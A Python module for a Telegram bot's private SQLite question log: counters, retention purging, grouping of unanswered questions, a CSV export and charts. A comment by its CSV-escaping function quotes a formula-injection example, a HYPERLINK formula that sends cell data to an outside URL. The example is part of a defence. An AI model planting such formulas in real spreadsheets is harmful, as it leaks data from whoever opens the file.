"""What curators learn from the questions asked: an SQLite log, private by design.

Two kinds of rows, and nothing else:

* ``unanswered``: the text of every question the base did not answer (and every "did you
  mean"), with its language, time (UTC), best candidate entry and score, so a curator can
  see what to add. It never holds a user id, chat id, username or name: ``record`` is only
  given the ``Reply``, which carries none of them.
* ``daily_counts``: per day, language, kind and entry, how many questions there were. Counters
  only, no text, so answered questions leave no trace of what was asked.

Durability, by kind of record:

* an unanswered question (the text curators read) is committed before ``record`` returns:
  WAL mode with ``synchronous=NORMAL``, so once ``record`` returns the row is in the
  write-ahead log through the operating system and survives the process being killed
  (SIGKILL, OOM, crash). Only a power cut or kernel crash can lose the last few commits,
  a risk a question log can take rather than wait for the disk on each (``FULL``). Such
  questions are few, so committing each costs little.
* the per-day counters of answered questions (nearly every question) are added up in
  memory and written in one transaction every ``flush_seconds`` (1 s) by a background
  thread, with the next unanswered record, and before ``stats``, ``purge`` and ``close``.
  Committing each of them meant a transaction and a hop to a worker thread per update, to
  add one to a counter. A killed process loses at most the counts of its last second; a
  clean shutdown (``close``) loses nothing.

Records older than ``retention_days`` are purged when the log opens and then at most once a
day, lazily, from ``record``, ``stats`` and the background flush (python-telegram-bot's
JobQueue needs an extra we do not install, and a lazy purge needs no timer to keep alive).
"""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import re
import sqlite3
import threading
import unicodedata
from collections import Counter
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from types import MappingProxyType

import numpy as np
from rapidfuzz import fuzz, process

from bot.stores.data_files import check_integrity, open_database
from bot.telegram.render import valid_text
from intents.reply import EMPTY, SMALL_TALK, Reply

log = logging.getLogger(__name__)

DEFAULT_FILENAME = "questions.sqlite3"
# A question longer than this is cut before storing: a log line, not an archive of pastes.
MAX_QUESTION_CHARS = 1000
# Two normalised questions at least this similar are one group for curators.
GROUP_SIMILARITY = 85.0
# Distinct texts considered when grouping, most frequent first: bounds the clustering work
# (every pair is scored: 1,000 texts are two 1,000 x 1,000 score matrices, under a second).
# Rarer wordings are left out of /unanswered and the CSV: someone planting 20 questions a
# minute cannot make the command slow, only push the rarest wordings out.
MAX_GROUPED_TEXTS = 1000
# Texts are compared on their first this many characters: enough to tell questions apart,
# and it keeps each comparison cheap whatever was pasted (stored texts keep 1,000).
COMPARED_CHARS = 200
# Counters of answered questions wait in memory at most this long before they are written.
FLUSH_SECONDS = 1.0

# A row of daily_counts: day, language, kind, answered (0/1), entry ('' for none).
_CounterKey = tuple[str, str, str, int, str]

# Schema migrations, applied in order at start-up; ``PRAGMA user_version`` holds how many
# have run. Append new ones, never edit old ones: a database from an older version is
# brought forward step by step, each step in its own transaction.
_MIGRATIONS: tuple[str, ...] = (
    # 1: the unanswered questions and the per-day counters.
    """
    CREATE TABLE unanswered (
        id          INTEGER PRIMARY KEY,
        asked_at    TEXT NOT NULL,          -- ISO 8601, UTC
        day         TEXT NOT NULL,          -- YYYY-MM-DD (UTC), for purging and per-day views
        question    TEXT NOT NULL,
        normalized  TEXT NOT NULL,          -- for grouping similar questions
        language    TEXT NOT NULL,
        kind        TEXT NOT NULL,          -- intents.reply kind: not_on_file, did_you_mean, ...
        best_entry  TEXT,                   -- best candidate entry, even when not answered
        score       REAL NOT NULL
    );
    CREATE INDEX unanswered_day ON unanswered (day);
    CREATE TABLE daily_counts (
        day         TEXT NOT NULL,
        language    TEXT NOT NULL,
        kind        TEXT NOT NULL,
        answered    INTEGER NOT NULL,
        entry       TEXT NOT NULL,          -- '' when the reply matched no entry
        count       INTEGER NOT NULL,
        PRIMARY KEY (day, language, kind, answered, entry)
    );
    """,
)


class AnalyticsError(Exception):
    """The question log cannot be opened (e.g. written by a newer version)."""


@dataclass(frozen=True, slots=True)
class DayCount:
    day: date
    answered: int
    unanswered: int

    @property
    def total(self) -> int:
        return self.answered + self.unanswered


@dataclass(frozen=True, slots=True)
class LanguageCount:
    answered: int
    unanswered: int

    @property
    def total(self) -> int:
        return self.answered + self.unanswered


@dataclass(frozen=True, slots=True)
class Stats:
    """Aggregates over the last ``days`` days (today included), for ``/stats``."""

    days: int
    per_day: tuple[DayCount, ...]  # every day of the window, oldest first, zeros included
    per_language: Mapping[str, LanguageCount]  # most questions first
    top_entries: tuple[tuple[str, int], ...]  # answered entries, most asked first
    did_you_mean: int = 0

    @property
    def total(self) -> int:
        return sum(d.total for d in self.per_day)

    @property
    def answered(self) -> int:
        return sum(d.answered for d in self.per_day)

    @property
    def answered_rate(self) -> float | None:
        """Share of questions answered, 0..1; None when nobody asked anything."""
        return self.answered / self.total if self.total else None


@dataclass(frozen=True, slots=True)
class QuestionGroup:
    """Similar unanswered questions, shown to curators as one line."""

    example: str  # the most frequent wording
    count: int
    languages: tuple[str, ...]  # most frequent first
    best_entry: str | None  # the most frequent best candidate
    best_score: float  # the highest score any of them reached
    last_asked: datetime
    variants: tuple[str, ...] = field(default=())  # other wordings, most frequent first


def normalize_question(text: str) -> str:
    """Case, width, punctuation and spacing folded away: what curators consider the same."""
    folded = unicodedata.normalize("NFKC", text).casefold()
    kept = "".join(
        ch if not unicodedata.category(ch).startswith(("P", "S")) else " " for ch in folded
    )
    return re.sub(r"\s+", " ", kept).strip()


def _utc(when: datetime | None) -> datetime:
    if when is None:
        return datetime.now(UTC)
    if when.tzinfo is None:  # naive times are taken as UTC, never as the server's zone
        return when.replace(tzinfo=UTC)
    return when.astimezone(UTC)


class QuestionLog:
    """The SQLite question log. Thread-safe: one connection behind a lock, and the counters
    not yet written behind another."""

    def __init__(
        self,
        path: Path,
        retention_days: int = 90,
        *,
        clock: Callable[[], datetime] | None = None,
        flush_seconds: float = FLUSH_SECONDS,
    ) -> None:
        if retention_days < 1:
            raise ValueError("retention_days must be at least 1")
        self.path = Path(path)
        self.retention_days = retention_days
        self.flush_seconds = flush_seconds
        self._clock = clock or (lambda: datetime.now(UTC))
        # Lock order: _lock (the connection) before _pending_lock (the counters), never the
        # other way round; record() of an answered question takes only _pending_lock.
        self._lock = threading.Lock()
        self._pending_lock = threading.Lock()
        self._pending: Counter[_CounterKey] = Counter()
        # A corrupt file is moved aside and a new one started; one that cannot be opened at
        # all gives way to one in memory (bot.stores.data_files): answering never waits on this.
        self._db = open_database(self.path, "question log", self._connect)
        self._grouped: tuple[tuple[int, int | None], list[QuestionGroup]] | None = None
        self._last_purge: datetime | None = None
        self.purge()
        self._closing = threading.Event()
        self._flusher = threading.Thread(
            target=self._flush_periodically, name="question-log-flush", daemon=True
        )
        self._flusher.start()

    def _connect(self, target: Path | str) -> sqlite3.Connection:
        # isolation_level=None: we write BEGIN/COMMIT ourselves, so a commit is where we say.
        self._db = sqlite3.connect(target, isolation_level=None, check_same_thread=False)
        try:
            self._db.execute("PRAGMA journal_mode=WAL")
            # NORMAL in WAL mode: a commit survives a killed process; see the module docstring.
            self._db.execute("PRAGMA synchronous=NORMAL")
            self._db.execute("PRAGMA busy_timeout=5000")
            check_integrity(self._db)
            self._migrate()
        except BaseException:
            self._db.close()
            raise
        return self._db

    @classmethod
    def in_directory(cls, data_dir: Path, retention_days: int = 90) -> QuestionLog:
        return cls(Path(data_dir) / DEFAULT_FILENAME, retention_days)

    # -- schema ---------------------------------------------------------------------------

    @property
    def schema_version(self) -> int:
        with self._lock:
            return int(self._db.execute("PRAGMA user_version").fetchone()[0])

    def _migrate(self) -> None:
        version = int(self._db.execute("PRAGMA user_version").fetchone()[0])
        if version > len(_MIGRATIONS):
            raise AnalyticsError(
                f"{self.path} has schema version {version}, newer than this program "
                f"knows ({len(_MIGRATIONS)}); upgrade the bot or move the file away"
            )
        for number, script in enumerate(_MIGRATIONS[version:], start=version + 1):
            # One transaction per step, user_version included (it is transactional), so a
            # crash mid-migration leaves the previous version intact.
            self._db.executescript(
                f"BEGIN IMMEDIATE;\n{script}\nPRAGMA user_version = {number};\nCOMMIT;"
            )
            log.info("question log %s migrated to schema version %d", self.path, number)

    # -- writing --------------------------------------------------------------------------

    @staticmethod
    def writes_through(reply: Reply) -> bool:
        """Whether ``record(reply)`` writes to disk before returning (an unanswered question);
        the others only count in memory."""
        return reply.kind not in (EMPTY, SMALL_TALK) and not reply.answered

    def record(self, reply: Reply, when: datetime | None = None) -> None:
        """Count a question; keep its text only when it was not answered.

        An unanswered question is committed to disk, with every count still pending, before
        this returns; an answered one is counted in memory and written within
        ``flush_seconds`` (see the module docstring).
        """
        if reply.kind == EMPTY:
            return
        at = _utc(when) if when is not None else _utc(self._clock())
        day = at.date().isoformat()
        entry = reply.entry if reply.answered else None
        key = (day, reply.language, reply.kind, int(reply.answered), entry or "")
        if reply.answered or reply.kind == SMALL_TALK:  # small talk is counted, never kept
            with self._pending_lock:
                self._pending[key] += 1
        else:
            question = valid_text(reply.question.strip()[:MAX_QUESTION_CHARS])
            row = (
                at.isoformat(timespec="seconds"),
                day,
                question,
                normalize_question(question),
                reply.language,
                reply.kind,
                reply.best_candidate or reply.entry,
                float(reply.score),
            )
            with self._lock:
                self._write(Counter({key: 1}), row)
        self._purge_if_due()

    async def arecord(self, reply: Reply) -> None:
        """``record`` for the event loop: a count in memory right here, a disk write in a
        worker thread."""
        if self.writes_through(reply):
            await asyncio.to_thread(self.record, reply)
        else:
            self.record(reply)

    def flush(self) -> None:
        """Write the counters still in memory (one transaction)."""
        with self._lock:
            self._write(Counter(), None)

    def _write(self, counts: Counter[_CounterKey], row: tuple[object, ...] | None) -> None:
        """Commit ``counts``, every pending count and ``row`` (an unanswered question) in one
        transaction; on failure the pending counts stay pending. Call with ``_lock`` held."""
        with self._pending_lock:
            pending, self._pending = self._pending, Counter()
        everything = pending + counts
        if not everything and row is None:
            return
        self._db.execute("BEGIN IMMEDIATE")
        try:
            self._db.executemany(
                "INSERT INTO daily_counts (day, language, kind, answered, entry, count) "
                "VALUES (?, ?, ?, ?, ?, ?) "
                "ON CONFLICT (day, language, kind, answered, entry) "
                "DO UPDATE SET count = count + excluded.count",
                [(*key, count) for key, count in everything.items()],
            )
            if row is not None:
                self._db.execute(
                    "INSERT INTO unanswered (asked_at, day, question, normalized, language,"
                    " kind, best_entry, score) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
                    row,
                )
            self._db.execute("COMMIT")
        except BaseException:
            self._db.execute("ROLLBACK")
            with self._pending_lock:
                self._pending.update(pending)  # counted again with the next write
            raise

    def _flush_periodically(self) -> None:
        while not self._closing.wait(self.flush_seconds):
            try:
                self.flush()
                self._purge_if_due()
            except Exception:  # a full disk now may have room later; keep counting
                log.exception("could not write the question counters")

    def purge(self, now: datetime | None = None) -> int:
        """Delete records older than the retention period; returns the questions deleted.

        The per-day counters of those days go too (pending ones are written first).
        """
        now = _utc(now) if now is not None else _utc(self._clock())
        cutoff = (now - timedelta(days=self.retention_days)).date().isoformat()
        with self._lock:
            self._write(Counter(), None)
            self._db.execute("BEGIN IMMEDIATE")
            try:
                deleted = self._db.execute("DELETE FROM unanswered WHERE day < ?", (cutoff,))
                self._db.execute("DELETE FROM daily_counts WHERE day < ?", (cutoff,))
                self._db.execute("COMMIT")
            except BaseException:
                self._db.execute("ROLLBACK")
                raise
            self._last_purge = now
        if deleted.rowcount:
            log.info("purged %d question records older than %s", deleted.rowcount, cutoff)
        return int(deleted.rowcount)

    def _purge_if_due(self) -> None:
        now = _utc(self._clock())
        last = self._last_purge
        if last is None or now - last >= timedelta(days=1):
            self.purge(now)

    def close(self) -> None:
        """Write what is pending and close; a log is closed once (later calls do nothing)."""
        if self._closing.is_set():
            return
        self._closing.set()
        self._flusher.join()
        with self._lock:
            try:
                self._write(Counter(), None)
            except Exception:
                log.exception("could not write the question counters on close")
            finally:
                self._db.close()

    def __enter__(self) -> QuestionLog:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    # -- reading --------------------------------------------------------------------------

    def _window(self, days: int, now: datetime | None) -> tuple[date, date]:
        today = (_utc(now) if now is not None else _utc(self._clock())).date()
        return today - timedelta(days=days - 1), today

    def stats(self, days: int = 30, now: datetime | None = None) -> Stats:
        """Questions per day, per language and per answered entry over the last ``days`` days."""
        self._purge_if_due()
        first, last = self._window(days, now)
        with self._lock:
            self._write(Counter(), None)  # the counts still in memory belong in the figures
            rows = self._db.execute(
                "SELECT day, language, kind, answered, entry, SUM(count) FROM daily_counts "
                "WHERE day BETWEEN ? AND ? GROUP BY day, language, kind, answered, entry",
                (first.isoformat(), last.isoformat()),
            ).fetchall()
        by_day: dict[str, list[int]] = {}
        by_language: dict[str, list[int]] = {}
        entries: Counter[str] = Counter()
        did_you_mean = 0
        for day, language, kind, answered, entry, count in rows:
            slot = 0 if answered else 1
            by_day.setdefault(day, [0, 0])[slot] += count
            by_language.setdefault(language, [0, 0])[slot] += count
            if answered and entry:
                entries[entry] += count
            if kind == "did_you_mean":
                did_you_mean += count
        per_day = tuple(
            DayCount(d, *by_day.get(d.isoformat(), (0, 0)))
            for d in (first + timedelta(days=i) for i in range(days))
        )
        languages = sorted(by_language.items(), key=lambda item: (-sum(item[1]), item[0]))
        return Stats(
            days=days,
            per_day=per_day,
            per_language=MappingProxyType({lang: LanguageCount(*c) for lang, c in languages}),
            top_entries=tuple(sorted(entries.items(), key=lambda item: (-item[1], item[0]))),
            did_you_mean=did_you_mean,
        )

    def unanswered(self, limit: int | None = 20) -> list[QuestionGroup]:
        """Unanswered questions grouped by similarity, most frequent group first.

        Deterministic: texts are visited most frequent first (ties by text), and each joins
        the earlier group whose leading text is most similar, if similar enough, else starts
        its own. Only the ``MAX_GROUPED_TEXTS`` most frequent distinct texts are grouped,
        each compared on its first ``COMPARED_CHARS`` characters.
        """
        with self._lock:
            # /unanswered lists the groups and then sends them all as CSV: the second call
            # reuses the first's grouping while no question was added or purged.
            state = self._db.execute("SELECT COUNT(*), MAX(id) FROM unanswered").fetchone()
            if self._grouped is not None and self._grouped[0] == state:
                groups = self._grouped[1]
                return list(groups) if limit is None else groups[:limit]
            rows = self._db.execute(
                "SELECT question, normalized, language, best_entry, score, asked_at "
                "FROM unanswered ORDER BY id"
            ).fetchall()
        by_text: dict[str, list[tuple[str, str, str | None, float, str]]] = {}
        for question, normalized, language, best_entry, score, asked_at in rows:
            by_text.setdefault(normalized, []).append(
                (question, language, best_entry, score, asked_at)
            )
        texts = sorted(by_text, key=lambda t: (-len(by_text[t]), t))[:MAX_GROUPED_TEXTS]
        members = _cluster(texts)
        groups = [_group([r for t in texts_ for r in by_text[t]]) for texts_ in members]
        groups.sort(key=lambda g: (-g.count, g.example))
        with self._lock:
            self._grouped = (state, groups)
        return groups if limit is None else groups[:limit]

    def unanswered_csv(self) -> bytes:
        """Every unanswered group as CSV, for curators' spreadsheets.

        Encoded UTF-8 *with* a byte-order mark: without it Excel guesses the system code
        page and shows Japanese (and umlauts) as mojibake; other tools ignore the BOM. Every
        text cell goes through ``spreadsheet_safe``: the questions are anybody's input.
        """
        out = io.StringIO()
        writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
        writer.writerow(
            [
                "count",
                "question",
                "languages",
                "best_candidate",
                "best_score",
                "last_asked_utc",
                "variants",
            ]
        )
        for group in self.unanswered(limit=None):
            writer.writerow(
                [
                    group.count,
                    spreadsheet_safe(group.example),
                    spreadsheet_safe(" ".join(group.languages)),
                    spreadsheet_safe(group.best_entry or ""),
                    f"{group.best_score:.0f}",
                    group.last_asked.isoformat(timespec="seconds"),
                    spreadsheet_safe(" | ".join(group.variants)),
                ]
            )
        return out.getvalue().encode("utf-8-sig")

    def stats_chart_png(self, days: int = 30, now: datetime | None = None) -> bytes:
        """Questions per day, answered and unanswered stacked, as a PNG image."""
        # The object-oriented API with the Agg canvas, not pyplot: no global figure state,
        # no backend selection, never a display, safe to call from a worker thread.
        from matplotlib.backends.backend_agg import FigureCanvasAgg
        from matplotlib.figure import Figure
        from matplotlib.ticker import MaxNLocator

        stats = self.stats(days, now)
        positions = list(range(len(stats.per_day)))
        answered = [d.answered for d in stats.per_day]
        unanswered = [d.unanswered for d in stats.per_day]
        figure = Figure(figsize=(8, 4), dpi=100)
        FigureCanvasAgg(figure)
        axes = figure.add_subplot()
        axes.bar(positions, answered, color="#2e7d32", label="answered")
        axes.bar(positions, unanswered, bottom=answered, color="#c62828", label="not answered")
        axes.set_title(f"Questions per day, last {days} days (UTC)")
        axes.set_ylabel("questions")
        axes.yaxis.set_major_locator(MaxNLocator(integer=True))
        axes.legend(loc="upper left")
        step = max(1, len(positions) // 10)  # about ten date labels, however long the window
        ticks = positions[::-step][::-1]  # counted back from today, so today has a label
        axes.set_xticks(ticks)
        axes.set_xticklabels([stats.per_day[i].day.strftime("%d %b") for i in ticks])
        figure.autofmt_xdate()
        figure.tight_layout()
        buffer = io.BytesIO()
        figure.savefig(buffer, format="png")
        return buffer.getvalue()


# What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection"): a question
# such as =HYPERLINK("http://…?d="&A3,"Click") would otherwise run when an admin opens it.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell: str) -> str:
    """``cell`` with a leading ``'`` when it would start a formula; Excel, LibreOffice and
    Google Sheets show the text and hide the quote."""
    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell


def _cluster(texts: list[str]) -> list[list[str]]:
    """``texts`` (most frequent first) in groups: each joins the earlier leader it is most
    similar to, when that similarity reaches ``GROUP_SIMILARITY``, else leads a group.

    Similarity is the higher of ``ratio`` (typos, and text without spaces: Japanese) and
    ``token_sort_ratio`` (word order), never the set/partial scorers: they call a single
    shared word a perfect match. All pairs are scored at once in C (``process.cdist``); the
    token sort is done once per text (``ratio`` of sorted words is ``token_sort_ratio``).
    """
    if not texts:
        return []
    cut = [text[:COMPARED_CHARS] for text in texts]
    words_sorted = [" ".join(sorted(text.split())) for text in cut]
    scores = np.maximum(
        *(
            process.cdist(
                side,
                side,
                scorer=fuzz.ratio,
                score_cutoff=GROUP_SIMILARITY,
                dtype=np.float32,
                workers=-1,
            )
            for side in (cut, words_sorted)
        )
    )
    leaders: list[int] = []
    members: list[list[str]] = []
    for index, text in enumerate(texts):
        if leaders:
            row = scores[index, leaders]
            best = int(row.argmax())  # the first of equally similar leaders
            if row[best] >= GROUP_SIMILARITY:
                members[best].append(text)
                continue
        leaders.append(index)
        members.append([text])
    return members


def _group(rows: list[tuple[str, str, str | None, float, str]]) -> QuestionGroup:
    wordings = Counter(question for question, *_ in rows)
    ranked = sorted(wordings.items(), key=lambda item: (-item[1], item[0]))
    languages = Counter(language for _, language, *_ in rows)
    candidates = Counter(entry for _, _, entry, _, _ in rows if entry)
    return QuestionGroup(
        example=ranked[0][0],
        count=len(rows),
        languages=tuple(lang for lang, _ in sorted(languages.items(), key=lambda i: (-i[1], i[0]))),
        best_entry=(
            sorted(candidates.items(), key=lambda i: (-i[1], i[0]))[0][0] if candidates else None
        ),
        best_score=max(score for *_, score, _ in rows),
        last_asked=datetime.fromisoformat(max(asked_at for *_, asked_at in rows)),
        variants=tuple(text for text, _ in ranked[1:]),
    )
